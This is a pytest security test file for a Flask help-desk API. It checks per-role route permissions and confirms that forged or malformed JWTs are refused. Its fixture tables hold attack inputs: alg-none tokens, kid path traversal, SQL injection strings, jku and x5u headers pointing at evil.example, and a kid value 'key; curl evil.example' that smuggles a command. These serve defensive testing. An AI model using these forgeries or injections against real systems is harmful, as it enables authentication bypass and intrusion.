"""Who gets in: every route with every role, every forged token, and what the database says at this moment."""

import base64
import hashlib
import hmac
import json
import re
import socket
from datetime import UTC, timedelta

import jwt
import pytest
import time_machine
from sqlalchemy import update

from app.extensions import db
from app.models import ROLES, Sesion, Usuario, utcnow
from app.permissions import POLITICA, Permiso
from app.utils.access import tokens
from app.utils.blueprint import Blueprint
from tests.client import document_of, documented
from tests.conftest import SECRETS
from tests.factories import NUEVO, quien, tiquet
from tests.world import refresh_token, snapshot

ME = "/api/auth/me"
KEY = SECRETS["JWT_SECRET_KEY"]
NEW_KEY = "k3-" + "".join(reversed(KEY))
METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE")

FINISH = "POST /api/auth/login/segundo-factor"
FORGOTTEN = {"POST /api/auth/recuperar", "POST /api/auth/restablecer"}
# Whoever has no token gets more than a 401 here, and nowhere else.
SSO = {"GET /api/auth/oidc/inicio", "GET /api/auth/oidc/retorno", "POST /api/auth/oidc/canje"}
PUBLIC = {"GET /", "GET /health", "GET /health/ready", "GET /metrics", "POST /api/auth/login", FINISH, *SSO}
PUBLIC |= FORGOTTEN
DOCUMENTS = {
    "GET /api/openapi.json",
    "GET /api/docs",
    "GET /api/docs/inicio.js",
    "GET /api/docs/archivos/<path:name>",
    "GET /api/errores",
    "GET /api/errores/<codigo>",
}
BY_REFRESH_TOKEN = {"POST /api/auth/refresh"}


def operations(app):
    """``METHOD /path`` -> its permission, of all that can be called."""
    return {
        f"{method} {rule.rule}": getattr(app.view_functions[rule.endpoint], "_apidoc", {}).get("permiso")
        for rule in app.url_map.iter_rules()
        for method in METHODS
        if method in rule.methods
    }


def call(client, operation, headers=None):
    method, path = operation.split()
    path = (
        re.sub("<id:[a-z_]+>", "1", path)
        .replace("<sesion:id>", "0" * 32)
        .replace("<path:name>", "swagger-ui.css")
        .replace("<codigo>", "no_encontrado")
    )
    with client.open(path, method=method, headers=headers, buffered=True) as answer:
        return answer


def test_every_route_says_who_may_call_it(app):
    without = {operation for operation, permiso in operations(app).items() if permiso is None}
    public = {operation for operation, permiso in operations(app).items() if permiso is Permiso.PUBLICO}

    assert without == DOCUMENTS
    assert public == PUBLIC | BY_REFRESH_TOKEN


def test_the_document_tells_the_same_as_the_routes(app):
    in_document = {
        f"{method.upper()} {path}": (about.get("security"), about.get("x-permiso"))
        for path, methods in document_of(app)["paths"].items()
        for method, about in methods.items()
        if method.upper() in METHODS
    }

    told = {
        documented(operation): ([], None) if permiso is Permiso.PUBLICO else (None, permiso.value)
        for operation, permiso in operations(app).items()
        if permiso
    }
    by_refresh_token = dict.fromkeys(BY_REFRESH_TOKEN, ([{"refresco": []}], None))
    assert in_document == told | by_refresh_token


def test_without_a_token_only_the_public_routes_answer(app, client):
    answers = {operation: call(client, operation) for operation in operations(app)}

    assert {o for o, answer in answers.items() if answer.status_code != 401} == PUBLIC | DOCUMENTS
    refused = [answer for answer in answers.values() if answer.status_code == 401]
    assert {answer.json["codigo"] for answer in refused} == {"token_ausente"}
    assert {answer.headers["WWW-Authenticate"] for answer in refused} == {'Bearer realm="SoportePlus"'}


@pytest.mark.parametrize("role", ROLES)
def test_each_role_gets_403_exactly_where_the_policy_says(app, client, role):
    wrong = {}
    for operation, permiso in operations(app).items():
        if operation in PUBLIC | DOCUMENTS | BY_REFRESH_TOKEN:
            continue
        answer = call(client, operation, quien(role).headers)
        roles = POLITICA[permiso][0]
        if answer.status_code in (401, 500) or (answer.status_code == 403) == (role in roles):
            wrong[operation] = answer.status_code
        elif role not in roles:
            assert (answer.json["permiso"], answer.json["roles"]) == (permiso.value, list(roles))

    assert wrong == {}


def test_a_route_that_does_not_say_who_may_call_it_cannot_be_registered():
    with pytest.raises(TypeError, match="permiso"):
        Blueprint("nueva", __name__).get("/nueva")


def test_every_permission_has_its_line_in_the_policy():
    assert set(POLITICA) == set(Permiso) - {Permiso.PUBLICO}


def encoded(value):
    data = value if isinstance(value, bytes) else json.dumps(value).encode()
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


@pytest.fixture
def token(tecnico):
    return tecnico.headers["Authorization"].removeprefix("Bearer ")


@pytest.fixture
def good(token):
    """The claims of a good access token."""
    return jwt.decode(token, KEY, algorithms=["HS256"], audience="soporteplus")


@pytest.fixture
def untouched(token):
    """Whatever is tried, every row of every table stays as it is."""
    before = snapshot()
    yield
    assert snapshot() == before


def get_me(client, token):
    return client.get(ME, headers={"Authorization": f"Bearer {token}"})


def refused_anywhere(client, token, codigo="token_invalido"):
    """A token that opens neither a reading nor a writing route, nor renews itself."""
    headers = {"Authorization": f"Bearer {token}"}
    writing = client.post("/api/tickets/tickets", json=NUEVO, headers=headers)
    renewing = client.post("/api/auth/refresh", headers=headers)
    return all(refused(answer, codigo) for answer in (get_me(client, token), writing, renewing))


def refused(answer, codigo="token_invalido"):
    assert answer.status_code == 401, answer.get_data(as_text=True)
    assert answer.json["codigo"] == codigo
    assert answer.headers["WWW-Authenticate"] == 'Bearer realm="SoportePlus"'
    return True


CLAIMS = {
    "issuer of another": {"iss": "otro"},
    "audience of another": {"aud": "otro"},
    "audience as a list": {"aud": ["soporteplus"]},
    "audience among others": {"aud": ["soporteplus", "otro"]},
    "a refresh token": {"type": "refresh"},
    "a type of no kind": {"type": "id"},
    "not yet": {"nbf": 4_000_000_000},
    "made in the future": {"iat": 4_000_000_000},
    "an expiry that is no number": {"exp": "nunca"},
    "an endless expiry": {"exp": float("inf")},
    "subject as a number": {"sub": 1},
    "subject that is no id": {"sub": "1 OR 1=1"},
    "subject beyond any id": {"sub": "9" * 30},
    "session as a list": {"sid": ["x"]},
    "null for a claim": {"sid": None},
}


@pytest.mark.usefixtures("untouched")
@pytest.mark.parametrize("changes", CLAIMS.values(), ids=CLAIMS)
def test_a_token_with_other_claims_is_refused_though_we_signed_it(client, good, changes):
    if changes == {"type": "refresh"}:  # A good refresh token by its claims, but not the one of its session.
        assert refused(get_me(client, jwt_of(good | changes)))
    else:
        assert refused_anywhere(client, jwt_of(good | changes))


@pytest.mark.usefixtures("untouched")
@pytest.mark.parametrize("claim", tokens.REQUIRED)
def test_a_token_without_one_of_its_claims_is_refused(client, good, claim):
    assert refused_anywhere(client, jwt_of({k: v for k, v in good.items() if k != claim}))


@pytest.mark.usefixtures("untouched")
@pytest.mark.parametrize(("claim", "seconds"), [("nbf", 60), ("iat", 60), ("exp", -60)])
def test_a_clock_may_differ_by_five_seconds_and_no_more(client, good, claim, seconds):
    now, sign = int(utcnow().replace(tzinfo=UTC).timestamp()), seconds // 60
    codigo = "token_caducado" if claim == "exp" else "token_invalido"

    assert get_me(client, jwt_of(good | {claim: now + 2 * sign})).status_code == 200
    assert refused_anywhere(client, jwt_of(good | {claim: now + 8 * sign}), codigo)
    assert refused_anywhere(client, jwt_of(good | {claim: now + seconds}), codigo)


@pytest.mark.parametrize("kind", ["access", "refresh"])
def test_a_new_signing_key_signs_nobody_out(client, tecnico, with_settings, kind):
    old = refresh_token(tecnico) if kind == "refresh" else tecnico.headers["Authorization"].split()[1]
    method, path = ("POST", "/api/auth/refresh") if kind == "refresh" else ("GET", ME)
    asked = {"method": method, "headers": {"Authorization": f"Bearer {old}"}}

    with_settings(JWT_SECRET_KEY=NEW_KEY)
    assert refused(client.open(path, **asked))
    with_settings(JWT_SECRET_KEY=NEW_KEY, JWT_SECRET_KEY_ANTERIOR="k9-" + "z" * 32)
    assert refused(client.open(path, **asked))
    with_settings(JWT_SECRET_KEY=NEW_KEY, JWT_SECRET_KEY_ANTERIOR=KEY)
    assert client.open(path, **asked).status_code == 200


def test_the_old_key_signs_nothing(app, client, good, with_settings, monkeypatch):
    with_settings(JWT_SECRET_KEY=NEW_KEY, JWT_SECRET_KEY_ANTERIOR=KEY)
    monkeypatch.setitem(app.config, "JWT_SECRET_KEY", NEW_KEY)  # where the extension that signs looks for it

    token = tokens.pair(int(good["sub"]), good["sid"])["access_token"]

    assert jwt.decode(token, NEW_KEY, algorithms=["HS256"], audience="soporteplus")["sid"] == good["sid"]
    assert get_me(client, token).status_code == 200


@pytest.mark.parametrize("forge", ["alg none, no signature", "alg HS512 by our key", "another payload"])
def test_the_old_key_opens_no_way_around_the_new_one(client, token, good, with_settings, forge):
    with_settings(JWT_SECRET_KEY=NEW_KEY, JWT_SECRET_KEY_ANTERIOR=KEY)

    assert refused(get_me(client, FORGED[forge](good, token.split("."))))
    assert refused(get_me(client, jwt_of(good | {"aud": "otro"})))
    assert refused(get_me(client, jwt_of(good | {"exp": good["iat"] - 10})), "token_caducado")


def test_an_expired_token_says_so(client, good):
    assert refused(get_me(client, jwt_of(good | {"exp": good["iat"] - 10})), "token_caducado")


def test_clocks_may_be_five_seconds_apart(client, good):
    with time_machine.travel(good["iat"], tick=False):
        answers = [get_me(client, jwt_of(good | {"exp": good["iat"] - late})) for late in (4, 5)]

    assert answers[0].status_code == 200
    assert refused(answers[1], "token_caducado")


def test_an_id_has_up_to_ten_digits(client, good):
    assert refused(get_me(client, jwt_of(good | {"sub": "2147483647"})), "sesion_terminada")
    assert refused(get_me(client, jwt_of(good | {"sub": "12147483647"})))


def jwt_of(claims, key=KEY, **header):
    """A token made by hand, as PyJWT would refuse to make some of these."""
    signed = f"{encoded({'alg': 'HS256', 'typ': 'JWT'} | header)}.{encoded(claims)}"
    digest = {"HS384": hashlib.sha384, "HS512": hashlib.sha512}.get(str(header.get("alg")), hashlib.sha256)
    return f"{signed}.{encoded(hmac.digest(key.encode(), signed.encode(), digest))}"


# From the claims and the parts of a good token.
FORGED = {
    "alg none, no signature": lambda c, p: jwt_of(c, alg="none").rpartition(".")[0] + ".",
    "alg NoNe, no signature": lambda c, p: jwt_of(c, alg="NoNe").rpartition(".")[0] + ".",
    "alg none, signed": lambda c, p: jwt_of(c, alg="none"),
    "alg HS384 by our key": lambda c, p: jwt_of(c, alg="HS384"),
    "alg HS512 by our key": lambda c, p: jwt_of(c, alg="HS512"),
    "alg hs256": lambda c, p: jwt_of(c, alg="hs256"),
    "alg RS256": lambda c, p: jwt_of(c, alg="RS256"),
    "alg as a list": lambda c, p: jwt_of(c, alg=["HS256"]),
    "alg null": lambda c, p: jwt_of(c, alg=None),
    "an unknown critical extension": lambda c, p: jwt_of(c, crit=["exp2"], exp2=1),
    "another key": lambda c, p: jwt_of(c, KEY + "x"),
    "an empty key": lambda c, p: jwt_of(c, ""),
    "the key of cursors": lambda c, p: jwt_of(c, SECRETS["SECRET_KEY"]),
    "another key that kid names": lambda c, p: jwt_of(c, "", kid="../../dev/null"),
    "another key that jku names": lambda c, p: jwt_of(c, "k", jku="https://evil.example/jwks.json"),
    "another key that jwk holds": lambda c, p: jwt_of(c, "k", jwk={"kty": "oct", "k": encoded(b"k")}),
    "a flipped bit of the signature": lambda c, p: ".".join((*p[:2], flipped(p[2]))),
    "no signature": lambda c, p: ".".join(p[:2]) + ".",
    "half a signature": lambda c, p: ".".join((*p[:2], p[2][:20])),
    "another payload": lambda c, p: ".".join((p[0], encoded(c | {"sub": "2"}), p[2])),
    "two parts": lambda c, p: ".".join(p[:2]),
    "five parts": lambda c, p: ".".join((*p, *p[:2])),
    "two tokens": lambda c, p: ".".join(p) + "," + ".".join(p),
    "two tokens, each with its scheme": lambda c, p: ".".join(p) + ", Bearer " + ".".join(p),
    "a token and a word": lambda c, p: ".".join(p) + " x",
    "a token in quotes": lambda c, p: '"' + ".".join(p) + '"',
    "a header that is no object": lambda c, p: ".".join((encoded([]), *p[1:])),
    "a payload that is no object": lambda c, p: jwt_of([c]),
    "a header nested beyond the stack": lambda c, p: ".".join((encoded(b"[" * 5000), *p[1:])),
    "a number too long for Python": lambda c, p: ".".join((encoded(b'{"alg":' + b"1" * 5000 + b"}"), *p[1:])),
    "no base64": lambda c, p: "???.???.???",
    "letters beyond ASCII": lambda c, p: ".".join(p[:2]) + ".ñ",
    "nothing": lambda c, p: "",
    "null": lambda c, p: "null",
}


def flipped(part):
    return part[:20] + ("A" if part[20] != "A" else "B") + part[21:]


@pytest.mark.usefixtures("untouched")
@pytest.mark.parametrize("forge", FORGED.values(), ids=FORGED)
def test_a_forged_token_is_refused(client, token, good, forge):
    assert refused_anywhere(client, forge(good, token.split(".")))


@pytest.mark.usefixtures("untouched")
def test_each_byte_of_the_signature_counts(client, token):
    *signed, signature = token.split(".")
    digest = base64.urlsafe_b64decode(signature + "=")

    for place in range(len(digest)):
        changed = bytes(byte ^ (place == n) for n, byte in enumerate(digest))
        assert refused(get_me(client, ".".join((*signed, encoded(changed)))))
    for length in range(len(digest)):
        assert refused(get_me(client, ".".join((*signed, encoded(digest[:length])))))


@pytest.fixture
def unconnected(monkeypatch):
    """Fails whoever would fetch a key from somewhere."""
    asked = []
    monkeypatch.setattr(socket.socket, "connect", lambda _self, address: asked.append(address))
    monkeypatch.setattr(socket, "getaddrinfo", lambda host, *_a, **_k: asked.append(host))
    yield
    assert asked == []


KEYS_OF_OTHERS = {
    "a path": {"kid": "../../../../dev/null"},
    "a query": {"kid": "' UNION SELECT 'k' --"},
    "a command": {"kid": "key; curl evil.example"},
    "an address": {"jku": "https://evil.example/jwks.json"},
    "an address on this machine": {"jku": "http://127.0.0.1:9/jwks.json"},
    "a certificate's address": {"x5u": "https://evil.example/cert.pem"},
    "a certificate": {"x5c": ["MIIB"]},
    "a key": {"jwk": {"kty": "oct", "k": encoded(b"k")}},
}


@pytest.mark.usefixtures("unconnected", "untouched")
@pytest.mark.parametrize("header", KEYS_OF_OTHERS.values(), ids=KEYS_OF_OTHERS)
@pytest.mark.parametrize("key", ["", "k"])
def test_no_header_of_a_token_names_its_key(client, good, header, key):
    assert refused_anywhere(client, jwt_of(good, key, **header))


@pytest.mark.parametrize(
    "header",
    [
        {"kid": "../../dev/null"},
        {"kid": "' OR 1=1 --"},
        {"jku": "https://evil.example/"},
        {"x5u": "file:///"},
    ],
)
def test_a_header_of_a_good_token_has_no_effect(client, good, header):
    assert get_me(client, jwt_of(good, **header)).status_code == 200


@pytest.mark.parametrize("scheme", ["Bearer", "bearer", "BEARER", "Bearer "])
def test_the_scheme_may_be_written_in_any_case(client, token, scheme):
    assert client.get(ME, headers={"Authorization": f"{scheme} {token}"}).status_code == 200


@pytest.mark.parametrize("value", ["{}", "Basic {}", "JWT {}", "Bearer", "Bearer{}", "Bearer,{}", ""])
def test_another_scheme_is_refused(client, token, value):
    assert refused(client.get(ME, headers={"Authorization": value.format(token)}))


@pytest.mark.parametrize("name", ["access_token", "jwt", "token", "access_token_cookie"])
def test_a_token_counts_in_no_other_place(client, token, name):
    client.set_cookie(name, token)

    assert refused(client.get(f"{ME}?{name}={token}"), "token_ausente")
    assert refused(client.post(f"{ME.replace('me', 'logout')}", json={name: token}), "token_ausente")
    assert refused(client.get(ME, headers={"X-Access-Token": token}), "token_ausente")


def test_an_access_token_renews_nothing(client, tecnico):
    assert refused(client.post("/api/auth/refresh", headers=tecnico.headers))


def test_a_refresh_token_opens_nothing_but_its_renewal(app, client, tecnico):
    refresh = tokens.pair(tecnico.id, tecnico.sid)["refresh_token"]

    for operation in set(operations(app)) - PUBLIC - DOCUMENTS - BY_REFRESH_TOKEN:
        assert refused(call(client, operation, {"Authorization": f"Bearer {refresh}"}))


def test_a_session_opens_only_for_whom_it_is(client, tecnico, admin):
    crossed = tokens.pair(admin.id, tecnico.sid)["access_token"]

    assert refused(get_me(client, crossed), "sesion_terminada")


@pytest.mark.parametrize(
    ("model", "values"),
    [
        (Usuario, {"activo": False}),
        (Sesion, {"fin": utcnow()}),
        (Sesion, {"vence": utcnow() - timedelta(seconds=1)}),
    ],
)
def test_a_token_dies_at_once_with_its_user_or_session(client, tecnico, model, values):
    assert client.get(ME, headers=tecnico.headers).status_code == 200

    db.session.execute(update(model).values(**values))
    db.session.commit()

    assert refused(client.get(ME, headers=tecnico.headers), "sesion_terminada")
    assert refused(client.post("/api/tickets/tickets", json={}, headers=tecnico.headers), "sesion_terminada")


def test_a_new_role_counts_from_the_next_request_on(client, tecnico):
    path = f"/api/tickets/tickets/{tiquet()}"
    assert client.delete(path, headers=tecnico.headers).status_code == 403

    for role, status in (("Administrador", 204), ("Técnico", 403), ("Solicitante", 403)):
        db.session.execute(update(Usuario).where(Usuario.id == tecnico.id).values(tipo_usuario=role))
        db.session.commit()
        assert client.delete(path, headers=tecnico.headers).status_code == status
    assert client.get(path, headers=tecnico.headers).status_code == 404
